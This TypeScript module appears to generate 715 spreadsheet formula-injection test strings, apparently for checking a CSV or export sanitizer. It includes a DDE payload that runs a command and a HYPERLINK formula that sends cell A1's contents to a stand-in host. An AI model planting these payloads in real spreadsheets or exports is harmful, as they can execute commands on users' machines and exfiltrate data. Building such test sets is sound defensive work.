export const TRIGGERS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\0',
  '\x7f',
  '＝',
  '＋',
  '－',
  '＠',
];
export const PREFIXES = [
  '',
  ' ',
  '   ',
  '"',
  "'",
  '""',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\u200b',
  '\u2003 ',
];
const BODIES = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"y")', 'SUM(A1:A9)', ''];

/** Every prefix, trigger and body in combination: 715 payloads. */
export const PAYLOADS = PREFIXES.flatMap((prefix) =>
  TRIGGERS.flatMap((trigger) => BODIES.map((body) => `${prefix}${trigger}${body}`)),
);
